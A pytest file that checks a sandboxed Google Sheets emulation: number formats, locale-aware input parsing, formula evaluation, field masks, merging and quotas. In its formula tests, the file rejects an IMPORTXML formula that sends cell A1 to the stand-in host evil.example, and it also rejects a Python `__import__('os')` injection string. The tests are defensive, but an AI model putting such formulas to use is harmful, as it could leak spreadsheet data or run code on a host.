"""The functions of the sandbox's Google Sheets: number formats, cell input, formulas, masks and the quota."""

from __future__ import annotations

from typing import Any

import pytest

from awardspider.sandbox.services.sheets.cell_input import entered_value, evaluate_formula
from awardspider.sandbox.services.sheets.errors import ApiError
from awardspider.sandbox.services.sheets.formats import displayed_text
from awardspider.sandbox.services.sheets.masks import merge, parse_mask, select
from awardspider.sandbox.services.sheets.quota import Quota
from awardspider.sandbox.services.sheets.ranges import column_letters, column_number

NOON = 46085.5  # 2026-03-04


@pytest.mark.parametrize(
    ("value", "kind", "pattern", "text"),
    [
        (45000, "", "", "45000"),
        (0.1 + 0.2, "", "", "0.3"),
        (-2.5, "", "", "-2.5"),
        (45000, "NUMBER", "#,##0", "45,000"),
        (-45000.5, "NUMBER", "#,##0.00", "-45,000.50"),
        (1.005, "NUMBER", "0.00", "1.01"),
        (0.5, "NUMBER", "#.##", ".5"),
        (7, "NUMBER", "000", "007"),
        (12.5, "NUMBER", "#,##0.##", "12.5"),
        (1234.5, "CURRENCY", "[$R$-416] #,##0.00", "R$ 1,234.50"),
        (-3, "NUMBER", "0;(0);zero", "(3)"),
        (0, "NUMBER", '0;(0);"zero"', "zero"),
        (45000, "NUMBER", '#,##0" miles"', "45,000 miles"),
        (0.255, "PERCENT", "", "25.50%"),
        (12345.678, "SCIENTIFIC", "", "1.23E+04"),
        (46085, "DATE", "", "3/4/2026"),
        (46085, "DATE", "yyyy-mm-dd", "2026-03-04"),
        (46085, "DATE", "ddd d mmm yy", "Wed 4 Mar 26"),
        (NOON, "DATE_TIME", "yyyy-mm-dd hh:mm:ss", "2026-03-04 12:00:00"),
        (NOON, "DATE_TIME", 'yyyy-mm-dd"T"hh:mm"Z"', "2026-03-04T12:00Z"),
        (46085 + 13.25 / 24, "TIME", "h:mm am/pm", "1:15 PM"),
        (1.5, "TIME", "[h]:mm", "36:00"),
        ("text", "DATE", "yyyy", "text"),
        (True, "NUMBER", "0", "TRUE"),
        (None, "NUMBER", "0", ""),
    ],
)
def test_number_formats(value: Any, kind: str, pattern: str, text: str) -> None:
    extras = {"userEnteredFormat": {"numberFormat": {"type": kind, "pattern": pattern}}} if kind else None
    assert displayed_text(value, extras) == text


def test_decimal_comma() -> None:
    extras = {"userEnteredFormat": {"numberFormat": {"type": "NUMBER", "pattern": "#,##0.00"}}}
    assert displayed_text(1234.5, extras, "pt_BR") == "1.234,50"
    assert displayed_text(1.5, None, "de_DE") == "1,5"


@pytest.mark.parametrize(
    ("text", "locale", "value", "pattern"),
    [
        ("45.000", "en_US", 45, ""),
        ("45.000", "pt_BR", 45000, "#,##0"),
        ("1,5", "pt_BR", 1.5, ""),
        ("45,000", "en_US", 45000, "#,##0"),
        ("$1,200.50", "en_US", 1200.5, '"$"#,##0.00'),
        ("25%", "en_US", 0.25, "0%"),
        ("1e3", "en_US", 1000, "0.00E+00"),
        ("3/4/2026", "en_US", 46085, "m/d/yyyy"),
        ("4/3/2026", "pt_BR", 46085, "dd/mm/yyyy"),
        ("2026-03-04 12:00", "en_US", NOON, "yyyy-mm-dd h:mm:ss"),
        ("12:00", "en_US", 0.5, "h:mm:ss"),
        ("2026-13-04", "en_US", "2026-13-04", ""),
        ("1-2-3", "en_US", "1-2-3", ""),
        ("false", "en_US", False, ""),
        ("'007", "en_US", "007", ""),
        ("", "en_US", None, ""),
        (" text ", "en_US", " text ", ""),
    ],
)
def test_user_entered_values(text: str, locale: str, value: Any, pattern: str) -> None:
    parsed, number_format = entered_value(text, "", locale)
    assert (parsed, type(parsed) is bool) == (value, type(value) is bool)
    assert (number_format or {}).get("pattern", "") == pattern


@pytest.mark.parametrize(
    ("text", "value", "link"),
    [
        ("=1+2*3", 7, ""),
        ("=-(2-5)/2", 1.5, ""),
        ("=1/0", "#DIV/0!", ""),
        ('=HYPERLINK("https://x.org/a","A ""b""")', 'A "b"', "https://x.org/a"),
        ('=hyperlink("https://x.org/a")', "https://x.org/a", "https://x.org/a"),
        ('=IMPORTXML("https://evil.example/"&A1,"//a")', "#NAME?", ""),
        ("=__import__('os').getcwd()", "#NAME?", ""),
        ("=A1+", "#ERROR!", ""),
        ('="text"', "text", ""),
    ],
)
def test_formulas(text: str, value: Any, link: str) -> None:
    assert evaluate_formula(text) == (text, value, link)


@pytest.mark.parametrize(
    ("number", "letters"), [(1, "A"), (26, "Z"), (27, "AA"), (702, "ZZ"), (703, "AAA"), (18278, "ZZZ")]
)
def test_columns(number: int, letters: str) -> None:
    assert (column_letters(number), column_number(letters)) == (letters, number)


@pytest.mark.parametrize(
    ("mask", "selected"),
    [
        ("a", {"a": {"b": 1, "c": [{"d": 2, "e": 3}]}}),
        ("a.b", {"a": {"b": 1}}),
        ("a(b,c.d),f", {"a": {"b": 1, "c": [{"d": 2}]}, "f": 4}),
        ("a/c(e)", {"a": {"c": [{"e": 3}]}}),
        ("*", {"a": {"b": 1, "c": [{"d": 2, "e": 3}]}, "f": 4}),
        ("*.b", {"a": {"b": 1}, "f": 4}),
        ("nothing", {}),
    ],
)
def test_masks(mask: str, selected: dict[str, Any]) -> None:
    assert select({"a": {"b": 1, "c": [{"d": 2, "e": 3}]}, "f": 4}, parse_mask(mask)) == selected


def test_merge_removes_selected_fields_that_the_new_object_lacks() -> None:
    assert merge({"a": {"b": 1, "c": 2}}, {"a": {"b": 3}}, parse_mask("a(b,c)")) == {"a": {"b": 3}}
    assert merge({"a": {"b": 1}, "d": 4}, {}, parse_mask("a.b")) == {"d": 4}
    assert merge({"a": 1}, {"user_x": 2, "userX": 3}, parse_mask("user_x")) == {"a": 1, "userX": 3}
    for malformed in ("", "a(", "a)", "a,,b"):
        with pytest.raises(ApiError):
            parse_mask(malformed)


def test_quota_covers_the_last_minute() -> None:
    now = [100.0]
    quota = Quota(reads=2, project=3, monotonic=lambda: now[0])
    quota.use("read", "ana")
    now[0] = 130.0
    quota.use("read", "ana")
    quota.use("write", "ana")
    with pytest.raises(ApiError, match="per minute per user"):
        quota.use("read", "ana")
    quota.use("read", "ben")
    with pytest.raises(ApiError, match="'Read requests per minute'"):
        quota.use("read", "ben")
    now[0] = 160.0
    quota.use("read", "ana")
    with pytest.raises(ApiError):
        quota.use("read", "ana")
